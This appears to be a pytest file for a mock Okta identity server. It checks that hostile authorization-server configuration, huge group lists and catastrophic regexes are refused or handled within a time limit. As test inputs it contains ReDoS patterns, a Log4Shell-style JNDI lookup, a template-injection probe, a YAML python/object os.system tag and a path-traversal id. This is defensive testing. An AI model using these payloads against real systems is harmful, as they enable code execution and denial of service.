"""Hostile authorization-server configuration, on both stores: garbage in a scenario loaded at run time
(``PUT /_mock/v1/scenario``), huge group lists on a user, and group filter regexes built to stall a matcher or a
compiler. Each is refused with its line (400, never a 500, the running scenario kept) or served within a bounded
moment; none may stall the server.

Two of these found server problems, fixed in the model: a catastrophic regex (``(a|aa)+$``) timed out once per group
at every issuance, minutes for a user in a thousand groups (now one budget per token,
:data:`~mock_idx.model.servers.REGEX_BUDGET_SECONDS`); and ``a{1000000000}`` made the validator's compile take all
the server's memory (now refused by size first, :data:`~mock_idx.scenario.server_specs.MAX_REGEX_SIZE`).
"""

from __future__ import annotations

import asyncio
import json
import time
from pathlib import Path
from typing import Any

import jwt
import pytest
from aiohttp.test_utils import TestClient

from mock_idx.config import Settings
from mock_idx.model.servers import MAX_GROUPS, GroupFilter, GroupMatch, kept_groups
from mock_idx.scenario.models import MAX_GROUPS_PER_USER
from tests.support.fixtures import app_in_loop
from tests.support.idx import PASSWORD, Flow

APPROVING = {"methods": ["push"], "push": {"outcome": "approve"}}
"""The user's Okta Verify: push only, approved at the first poll."""
HANG_GUARD = 60.0
"""Far beyond what any answer here needs (well under a second each); only a stalled server reaches it."""
LOGIN = "many.groups@example.com"
CATASTROPHIC = ["(a+)+$", "(a|aa)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "(x+x+)+y"]
"""Patterns that backtrack exponentially on a near miss in a backtracking matcher (the regex module spots the first)."""
BASE = {
    "settings": {
        "authorization_servers": [
            {
                "id": "orders",
                "scopes": [{"name": "orders:read"}],
                "claims": [
                    {"name": "groups", "token": "id", "groups": {"starts_with": "Orders"}},
                    {"name": "many", "value": 'Groups.startsWith("OKTA", "Orders", 999)'},
                ],
            },
            *(
                {
                    "id": f"evil{index}",
                    "claims": [
                        {"name": "groups", "token": "id", "groups": {"regex": pattern}},
                        {"name": "teams", "groups": {"regex": pattern}},
                    ],
                }
                for index, pattern in enumerate(CATASTROPHIC)
            ),
        ]
    }
}


@pytest.fixture
def settings(store_setting: str, tmp_path: Path) -> Settings:
    path = tmp_path / "hostile-servers.yaml"
    path.write_text(json.dumps(BASE), encoding="utf-8")
    return Settings(poll_refresh_ms=100, store=store_setting, scenario=str(path))


async def put_member(client: TestClient[Any, Any], groups: Any) -> tuple[int, dict[str, Any]]:
    body = {"password": PASSWORD, "groups": groups, "authenticators": {"okta_verify": APPROVING}}
    response = await client.put(f"/_mock/v1/users/{LOGIN}", json=body)
    answer: dict[str, Any] = await response.json(content_type=None)
    return response.status, answer


async def signed_in_tokens(client: TestClient[Any, Any], server: str, scope: str = "openid") -> dict[str, Any]:
    async with asyncio.timeout(HANG_GUARD):
        flow = Flow(client, issuer_path=f"/oauth2/{server}", scope=scope)
        await flow.push_sign_in(LOGIN)
        await flow.poll()
        response = await flow.exchange()
        body: dict[str, Any] = await response.json()
    assert response.status == 200, body
    return body


def claims(token: str) -> dict[str, Any]:
    decoded: dict[str, Any] = jwt.decode(token, options={"verify_signature": False})
    return decoded


# --- garbage in a scenario loaded at run time -------------------------------------------------------------------------


def server(**fields: Any) -> str:
    return json.dumps({"settings": {"authorization_servers": [{"id": "x", **fields}]}})


GARBAGE: dict[str, str] = {
    "servers not a list": "settings: {authorization_servers: orders}",
    "a number for a server": "settings: {authorization_servers: [42]}",
    "a null server": "settings: {authorization_servers: [null]}",
    "a list for a server": "settings: {authorization_servers: [[orders]]}",
    "a path for an id": server(id="../../etc"),
    "an id of 101 characters": server(id="s" * 101),
    "an unknown field": server(resource="api://x"),
    "an empty audience": server(audience=""),
    "an audience mapping": server(audience={"a": 1}),
    "scopes as a string": server(scopes="orders:read"),
    "a scope with a space": server(scopes=[{"name": "orders read"}]),
    "a scope of 101 characters": server(scopes=[{"name": "s" * 101}]),
    "a default that is no boolean": server(scopes=[{"name": "a", "default": "maybe"}]),
    "claims as a mapping": server(claims={"name": "a"}),
    "a claim with no name": server(claims=[{"value": "user.a"}]),
    "a claim name starting with a digit": server(claims=[{"name": "1a", "value": "user.a"}]),
    "a claim for a refresh token": server(claims=[{"name": "a", "token": "refresh", "value": "user.a"}]),
    "a claim with neither value nor groups": server(claims=[{"name": "a"}]),
    "an empty group filter": server(claims=[{"name": "a", "groups": {}}]),
    "a group filter of an unknown kind": server(claims=[{"name": "a", "groups": {"like": "A%"}}]),
    "a log4j lookup for a value": server(claims=[{"name": "a", "value": "${jndi:ldap://x.test/a}"}]),
    "a template for a value": server(claims=[{"name": "a", "value": "{{7*7}}"}]),
    "a value of 501 characters": server(claims=[{"name": "a", "value": "user." + "a" * 496}]),
    "a nested value": server(claims=[{"name": "a", "value": [[["user.a"]]]}]),
    "a regex with a lookbehind left open": server(claims=[{"name": "a", "groups": {"regex": "(?<=a"}}]),
    "a regex repeated a billion times": server(claims=[{"name": "a", "groups": {"regex": "a{1000000000}"}}]),
    "a regex nesting repeats to millions": server(claims=[{"name": "a", "groups": {"regex": "((a{100}){100}){100}"}}]),
    "a regex with a huge count after an escape": server(claims=[{"name": "a", "groups": {"regex": r"\d{99999999}"}}]),
    "a group count too large to parse": server(claims=[{"name": "a", "value": 'Groups.contains("OKTA", "a", 1000)'}]),
    "policies as a string": server(access_policies="all"),
    "a policy with no rules": server(access_policies=[{"name": "P", "rules": []}]),
    "a rule with an unknown grant": server(
        access_policies=[{"name": "P", "rules": [{"name": "R", "grant_types": ["password"]}]}]
    ),
    "a rule with no grants": server(access_policies=[{"name": "P", "rules": [{"name": "R", "grant_types": []}]}]),
    "a rule with no scopes": server(access_policies=[{"name": "P", "rules": [{"name": "R", "scopes": []}]}]),
    "a rule with an empty login": server(access_policies=[{"name": "P", "rules": [{"name": "R", "users": [""]}]}]),
    "a negative lifetime": "settings: {authorization_servers: [{id: x, access_policies: "
    "[{name: P, rules: [{name: R, access_token_lifetime: -1}]}]}]}",
    "a lifetime of NaN": "settings: {authorization_servers: [{id: x, access_policies: "
    "[{name: P, rules: [{name: R, access_token_lifetime: .nan}]}]}]}",
    "a lifetime of infinity": "settings: {authorization_servers: [{id: x, access_policies: "
    "[{name: P, rules: [{name: R, refresh_token_lifetime: .inf}]}]}]}",
    "a lifetime of 1e300": "settings: {authorization_servers: [{id: x, access_policies: "
    "[{name: P, rules: [{name: R, access_token_lifetime: 1e300}]}]}]}",
    "201 rules": server(access_policies=[{"name": "P", "rules": [{"name": f"R{i}"} for i in range(201)]}]),
    "an org server as a list": "settings: {org_authorization_server: []}",
    "an org server with an id": "settings: {org_authorization_server: {id: orders}}",
    "a server listed twice": "settings: {authorization_servers: [orders, {id: orders}]}",
    "a python object tag": "settings: {authorization_servers: [!!python/object/apply:os.system [echo]]}",
    "a key that is a list": "settings: {authorization_servers: [{id: x, claims: [{? [a] : b}]}]}",
}


@pytest.mark.parametrize("case", GARBAGE, ids=list(GARBAGE))
async def test_garbage_in_a_server_loaded_at_run_time_is_refused_with_its_lines(client, case):
    text = GARBAGE[case]
    async with asyncio.timeout(HANG_GUARD):
        response = await client.put("/_mock/v1/scenario", data=text, headers={"Content-Type": "application/yaml"})
        answer = await response.json()
    assert response.status == 400, answer
    assert answer["errors"], answer
    for problem in answer["errors"]:
        assert isinstance(problem["line"], int) and problem["line"] >= 1, problem
        assert problem["message"] and isinstance(problem["field"], str), problem
    discovery = await (await client.get("/oauth2/orders/.well-known/openid-configuration")).json()
    assert "orders:read" in discovery["scopes_supported"], "the running scenario is kept"


async def test_a_refused_server_is_refused_on_its_own_line(client):
    text = "description: broken\nsettings:\n  authorization_servers:\n    - plain\n    - id: bad\n      claims:\n" + (
        "        - {name: sub, value: user.a}\n"
    )
    response = await client.put("/_mock/v1/scenario", data=text, headers={"Content-Type": "application/yaml"})
    answer = await response.json()
    assert response.status == 400
    [reserved] = [problem for problem in answer["errors"] if "'sub' is a claim Okta sets itself" in problem["message"]]
    assert 5 <= reserved["line"] <= 7, "the bad server's entry (its claim's line at best), not the one before it"


# --- huge group lists -------------------------------------------------------------------------------------------------


async def test_a_user_in_a_thousand_groups_signs_in_with_a_hundred_in_the_claim(client):
    """A thousand groups over the control API (as many as fit its 64 KB body); the claims keep the first hundred."""
    groups = [f"Orders-{index:04}-" + "g" * 38 for index in range(MAX_GROUPS_PER_USER)]
    status, user = await put_member(client, groups)
    assert status == 200 and user["groups"] == groups
    body = await signed_in_tokens(client, "orders", "openid orders:read")
    assert claims(body["id_token"])["groups"] == groups[:MAX_GROUPS]
    assert claims(body["access_token"])["many"] == groups[:MAX_GROUPS], "an expression's own limit is capped too"


async def test_the_largest_group_list_a_scenario_allows_signs_in_too(store_setting, tmp_path):
    """A thousand groups of 255 characters (the most the schema allows) load from a scenario file; over the control
    API they are more than its body limit, refused as too large, never a 500."""
    groups = [f"Orders-{index:04}-" + "g" * 243 for index in range(MAX_GROUPS_PER_USER)]
    assert {len(group) for group in groups} == {255}
    user = {"login": LOGIN, "password": PASSWORD, "groups": groups, "authenticators": {"okta_verify": APPROVING}}
    path = tmp_path / "largest.yaml"
    path.write_text(json.dumps({**BASE, "users": [user]}), encoding="utf-8")
    async with app_in_loop(Settings(poll_refresh_ms=100, store=store_setting, scenario=str(path))) as client:
        body = await signed_in_tokens(client, "orders", "openid orders:read")
        assert claims(body["id_token"])["groups"] == groups[:MAX_GROUPS]
        assert (await put_member(client, groups))[0] == 413


@pytest.mark.parametrize(
    ("groups", "field"),
    [
        ([f"G{index}" for index in range(MAX_GROUPS_PER_USER + 1)], "groups"),
        (["g" * 256], "groups.0"),
        ([""], "groups.0"),
        ([42], "groups.0"),
        ([["nested"]], "groups.0"),
        ("OrdersAdmins", "groups"),
        ({"name": "OrdersAdmins"}, "groups"),
    ],
    ids=["1001 groups", "a name of 256", "an empty name", "a number", "a list", "a string", "a mapping"],
)
async def test_group_lists_no_directory_would_hold_are_refused(client, groups, field):
    status, answer = await put_member(client, groups)
    assert status == 400, answer
    assert [problem["field"] for problem in answer["errors"]] == [field]


async def test_a_group_listed_twice_is_one_membership(client):
    status, user = await put_member(client, ["OrdersA", "OrdersB", "OrdersA"])
    assert status == 200 and user["groups"] == ["OrdersA", "OrdersB"]
    assert claims((await signed_in_tokens(client, "orders"))["id_token"])["groups"] == ["OrdersA", "OrdersB"]


# --- regexes built to stall -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("index", range(len(CATASTROPHIC)), ids=CATASTROPHIC)
async def test_a_catastrophic_regex_over_a_thousand_groups_does_not_stall_the_server(client, index):
    """Every group is a near miss that makes the pattern backtrack; the first one matches every pattern here and
    is found, since the regexes of one issuance share a time budget, the rest are given up on. The server answers
    the sign-in, userinfo and everyone else."""
    first = "aaaa" if index < 2 else ("ab.Cd" if index == 2 else "xxxy")
    near_misses = [("a" * 40 if index < 3 else "x" * 40) + f"!{n}" for n in range(MAX_GROUPS_PER_USER - 1)]
    status, _ = await put_member(client, [first, *near_misses])
    assert status == 200
    body = await signed_in_tokens(client, f"evil{index}")
    assert claims(body["id_token"])["groups"] == [first]
    assert claims(body["access_token"])["teams"] == [first]
    async with asyncio.timeout(HANG_GUARD):
        info = await client.get(
            f"/oauth2/evil{index}/v1/userinfo", headers={"Authorization": f"Bearer {body['access_token']}"}
        )
        assert info.status == 200 and (await info.json())["groups"] == [first]
        assert (await client.get("/.well-known/openid-configuration")).status == 200


def test_a_regex_filter_out_of_time_keeps_none_of_the_groups_left():
    """The bound itself: past its deadline a regex filter looks at no more groups; the other filters, which cannot
    stall, are never cut short."""
    past = time.monotonic() - 1
    groups = ("OrdersA", "OrdersB")
    assert kept_groups(GroupFilter(GroupMatch.REGEX, "Orders.*"), groups, past) == []
    assert kept_groups(GroupFilter(GroupMatch.STARTS_WITH, "Orders"), groups, past) == list(groups)
    assert kept_groups(GroupFilter(GroupMatch.REGEX, "Orders.*"), groups, time.monotonic() + 60) == list(groups)
